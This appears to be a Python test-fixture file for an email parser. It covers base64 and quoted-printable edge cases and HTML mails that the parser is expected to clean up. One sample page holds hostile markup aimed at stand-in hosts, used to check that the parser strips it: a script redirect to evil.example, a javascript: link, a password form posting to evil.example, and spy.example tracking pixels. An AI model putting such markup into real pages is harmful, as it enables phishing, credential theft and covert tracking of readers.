"""Base64, quoted-printable and pages that do not keep to what they say."""

import base64

from evenhand.cases.tests.hard_mails.making import HardMail, mixed, page, part, plain

WORDS = "Where is my parcel? Grüße".encode()
BASE64 = base64.b64encode(WORDS)
TRACKED = """<html><head><style>p { color: red } .x:after { content: "spy" }</style><title>Mail</title></head><body>
<!--[if mso]><table><tr><td>Outlook only</td></tr></table><![endif]-->
<script>document.location = "https://evil.example"</script>
<p onclick="steal()" style="background: url(https://spy.example/css.gif)">Where is <b>my parcel</b>?</p>
<img src="https://spy.example/open.gif?who=ann" width="1" height="1"><a href="javascript:steal()">here</a>
<form action="https://evil.example"><input name="password"></form></body></html>"""


def in_base64(body: bytes) -> bytes:
    return plain(body, encoding="base64")


def quoted_printable(body: bytes) -> bytes:
    return plain(body, encoding="quoted-printable")


MAILS = [
    HardMail("base64 without its end", in_base64(BASE64.rstrip(b"=")), text="Where is my parcel? Grüße"),
    HardMail(
        "base64 with gaps and empty lines",
        in_base64(BASE64[:7] + b" \n\n\t" + BASE64[7:]),
        text="Where is my parcel? Grüße",
    ),
    HardMail(
        "base64 of one line that never breaks", in_base64(base64.b64encode(WORDS * 2_000)), has="Where is my parcel?"
    ),
    HardMail("base64 in its name only", in_base64(b"This is plain text, really. It is!"), has=""),
    HardMail("base64 under a name in capitals with a comment", plain(BASE64, encoding="BASE64 (by us)"), has=""),
    HardMail("quoted-printable with broken codes", quoted_printable(b"100=% sure, =ZZ, =C3=BC and ="), has="ü and"),
    HardMail("quoted-printable that breaks a letter", quoted_printable(b"Gr=C3=\n=BC=C3=9Fe"), text="Grüße"),
    HardMail("quoted-printable in small letters", quoted_printable(b"Gr=c3=bc=c3=9fe"), text="Grüße"),
    HardMail("eight bits under seven", plain("Grüße", encoding="7bit"), text="Grüße"),
    HardMail("an encoding that nobody knows", plain("Grüße", encoding="x-zip-of-mine"), text="Grüße"),
    HardMail(
        "flowed lines",
        plain("One long \nparagraph.\n-- \nAnn", "utf-8; format=flowed"),
        text="One long paragraph.\n-- \nAnn",
    ),
    HardMail("a page only", page("<p>Hello,</p><p>where is it?</p><ul><li>kettle</ul>"), has="Hello,\n\nwhere is it?"),
    HardMail(
        "a page that wants to be looked after",
        page(TRACKED),
        text="Where is my parcel?\n\nhere",
        lacks=("spy", "script", "javascript", "onclick", "evil", "<img", "<form", "color: red"),
    ),
    HardMail(
        "a page with an empty text beside it",
        mixed(part("text/plain", " \n"), part("text/html", "<p>Hi</p>"), kind="multipart/alternative"),
        text="Hi",
    ),
    HardMail("a page of open ends", page("<p>Hello <b>you<p><i>there</table></div>"), text="Hello you\n\nthere"),
    HardMail("a page whose letters are numbers", page("&#x48;&#101;llo &nbsp;&amp; &euro;5 &bogus;"), has="Hello"),
    HardMail(
        "a page that quotes",
        page("<p>Yes.</p><div>On Mon, 2 Mar 2026, Help wrote:</div><blockquote><p>Red or blue?</p></blockquote>"),
        text="Yes.",
        quoted="Red or blue?",
    ),
]
